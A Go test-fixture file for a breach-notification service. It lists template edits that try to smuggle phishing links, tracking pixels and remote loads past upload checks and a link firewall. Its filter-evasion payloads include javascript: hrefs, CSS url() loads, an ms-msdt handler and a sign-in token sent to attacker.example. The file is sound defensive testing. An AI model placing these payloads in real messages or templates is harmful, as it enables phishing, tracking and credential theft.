// Package templatetest holds what tests of templates share across packages:
// the corpus of templates that try to smuggle a link or a load into a
// notice. The upload checks must refuse each one, and, with those checks
// switched off, the send-time link firewall must stop each message.
package templatetest

import (
	"strings"

	"github.com/breachnotify/breachnotify/templates"
)

// Bypass is one attempt: an edit of a shipped English template.
type Bypass struct {
	Name string
	// Kind is the template edited (initial unless said otherwise).
	Kind templates.Kind
	// Part is where the edit goes: subject, text or html.
	Part string
	// Add is appended to the subject or the text, or put before </body>.
	Add string
}

// Source is the shipped English template of b's kind with b's edit.
func (b Bypass) Source() templates.Source {
	kind := b.Kind
	if kind == "" {
		kind = templates.KindInitial
	}
	src, err := templates.DefaultSource(kind, "en")
	if err != nil {
		panic(err) // the shipped templates are embedded
	}
	switch b.Part {
	case "subject":
		src.Subject = strings.TrimRight(src.Subject, "\n") + b.Add
	case "text":
		src.Text += "\n" + b.Add + "\n"
	default:
		src.HTML = strings.Replace(src.HTML, "</body>", b.Add+"\n</body>", 1)
	}
	return src
}

// TemplateKind is the kind b edits.
func (b Bypass) TemplateKind() templates.Kind {
	if b.Kind == "" {
		return templates.KindInitial
	}
	return b.Kind
}

// Bypasses are the attempts: the ones a review found accepted before the
// checks were rebuilt (URLs from pieces, protocol-relative links,
// http-equiv, CSS url() split by an action, links in branches the sample
// data does not take, a sign-in token leaked through a CSS load), and
// more of each family.
var Bypasses = []Bypass{
	// Pieces assembled by actions.
	{Name: "www from pieces", Part: "text", Add: `Reset at {{"ww"}}w.evil-phish.example/login`},
	{Name: "scheme from pieces", Part: "text", Add: `https:{{"/"}}/evil.example/login`},
	{Name: "href from pieces", Part: "html", Add: `<a href="{{"ht"}}tps://evil.example/login">sign in</a>`},
	{Name: "http-equiv from pieces", Part: "html", Add: `<meta http-{{"equiv"}}="refresh" content="0;url=https://evil.example/">`},
	{Name: "css url from pieces", Part: "html", Add: `<p style="background:u{{""}}rl(//attacker.example/p.gif)">x</p>`},
	{Name: "sign-in token in a css load", Kind: templates.KindPortalLink, Part: "html",
		Add: `<p style="background:u{{""}}rl(/{{""}}/attacker.example/{{slice .Links.Portal 36}})">x</p>`},
	{Name: "@import from pieces", Part: "html", Add: `<style>@{{"im"}}port "//track.example/x.css";</style>`},
	{Name: "subject from pieces", Part: "subject", Add: ` {{"www"}}.evil-phish.com`},
	{Name: "url completed by data", Part: "text", Add: `See https://{{.Incident.Slug}}.evil.example/`},
	{Name: "domain completed by data", Part: "html", Add: `<p>{{.Organization.Ref}}.evil.com/login</p>`},
	// Functions that assemble or transform text.
	{Name: "printf assembles a url", Part: "text", Add: `{{printf "%s://%s/login" "https" "evil.example"}}`},
	{Name: "printf of character codes", Part: "text", Add: `{{printf "%c%c%c%c%c://evil.example" 104 116 116 112 115}}`},
	{Name: "print concatenates", Part: "text", Add: `{{print "https://" "evil.example/x"}}`},
	{Name: "println concatenates", Part: "html", Add: `<p>{{println "www" ".evil.com"}}</p>`},
	{Name: "urlquery keeps dots", Part: "text", Add: `Visit {{urlquery "evil.com"}}`},
	{Name: "html function", Part: "text", Add: `{{html "<img src=//evil.example/p.gif>"}}`},
	{Name: "js function", Part: "html", Add: `<p>{{js "https://evil.example/"}}</p>`},
	{Name: "link sliced and glued", Part: "text", Add: `{{slice .Links.Verify 0 0}}https://evil.example/login`},
	{Name: "link passed to printf", Part: "text", Add: `{{printf "%s/../../evil.example/x" .Links.Verify}}`},
	{Name: "link piped to printf", Part: "html", Add: `<a href="{{.Links.Verify | printf "%s?next=//evil.example"}}">verify</a>`},
	{Name: "link taken by with", Part: "text", Add: `{{with .Links.Verify}}{{.}}/../evil.example/x{{end}}`},
	{Name: "links in a variable", Part: "html", Add: `{{$l := .Links}}<a href="{{$l.Verify}}?next=//evil.example">verify</a>`},
	// Branches the sample data does not take.
	{Name: "pixel in a branch not taken", Part: "html", Add: `{{if eq .Organization.Ref "nobody"}}<img src="https://track.example/p.gif">{{else}}<img src="https://track.example/q.gif">{{end}}`},
	{Name: "link in an else branch", Part: "html", Add: `{{if .Organization.Name}}<a href="https://evil.example/a">x</a>{{else}}<a href="https://evil.example/b">x</a>{{end}}`},
	{Name: "link in a range", Part: "text", Add: `{{range .Notice.Items}}https://evil.example/{{.Ref}} {{end}}`},
	{Name: "link in a defined template", Part: "html", Add: `{{define "x"}}<a href="https://evil.example/login">x</a>{{end}}{{template "x"}}`},
	{Name: "image in a block", Part: "html", Add: `{{block "y" .}}<img src="//track.example/p.gif">{{end}}`},
	// Loads and links written out.
	{Name: "protocol-relative href", Part: "html", Add: `<a href="//attacker.example/login">sign in</a>`},
	{Name: "unquoted href", Part: "html", Add: `<a href=https://evil.example/login>sign in</a>`},
	{Name: "href behind a character reference", Part: "html", Add: `<a href="https&#58;//evil.example/login">sign in</a>`},
	{Name: "javascript href", Part: "html", Add: `<a href="javascript:location='https://evil.example'">x</a>`},
	{Name: "data href", Part: "html", Add: `<a href="data:text/html,&lt;script&gt;">x</a>`},
	{Name: "css url behind a character reference", Part: "html", Add: `<p style="background:&#117;rl(//track.example/p.gif)">x</p>`},
	{Name: "css url behind a css escape", Part: "html", Add: `<p style="background:\75rl(//track.example/p.gif)">x</p>`},
	{Name: "css image-set", Part: "html", Add: `<p style="background-image:image-set('//track.example/x.png' 1x)">x</p>`},
	{Name: "escaped @import", Part: "html", Add: `<style>@\69mport "//track.example/x.css";</style>`},
	{Name: "font-face", Part: "html", Add: `<style>@font-face{font-family:x;src:url(//track.example/f.woff)}</style>`},
	{Name: "background attribute", Part: "html", Add: `<table background="//track.example/bg.png"><tr><td>x</td></tr></table>`},
	{Name: "srcset", Part: "html", Add: `<picture><source srcset="//track.example/x.png"></picture>`},
	{Name: "svg image", Part: "html", Add: `<svg><image href="//track.example/x.png"/></svg>`},
	{Name: "form", Part: "html", Add: `<form action="https://evil.example/"><button>Verify</button></form>`},
	{Name: "base href", Part: "html", Add: `<base href="https://evil.example/">`},
	{Name: "stylesheet link", Part: "html", Add: `<link rel=stylesheet href=//track.example/x.css>`},
	{Name: "iframe", Part: "html", Add: `<iframe src="https://evil.example/"></iframe>`},
	{Name: "event handler", Part: "html", Add: `<p onmouseover="location='//evil.example'">x</p>`},
	{Name: "link in a tooltip", Part: "html", Add: `<p title="https://evil.example/login">hover</p>`},
	{Name: "link text split by a tag", Part: "html", Add: `<p>evil.<b></b>example/login</p>`},
	// What a mail client links in plain text.
	{Name: "unc path", Part: "text", Add: `\\evil.example\share\invoice.docx`},
	{Name: "mailto", Part: "text", Add: `Questions? mailto:help@evil.example`},
	{Name: "bare e-mail address", Part: "text", Add: `Reply to help@evil.example`},
	{Name: "bare domain", Part: "text", Add: `Reset at evil-phish.com`},
	{Name: "full-width url", Part: "text", Add: `ｈｔｔｐｓ：／／evil．example/login`},
	{Name: "ideographic dot", Part: "html", Add: `<p>evil。com/login</p>`},
	{Name: "office handler", Part: "text", Add: `ms-msdt:/id PCWDiagnostic /skip force`},
	{Name: "url in the subject", Part: "subject", Add: ` http://evil.example`},
}
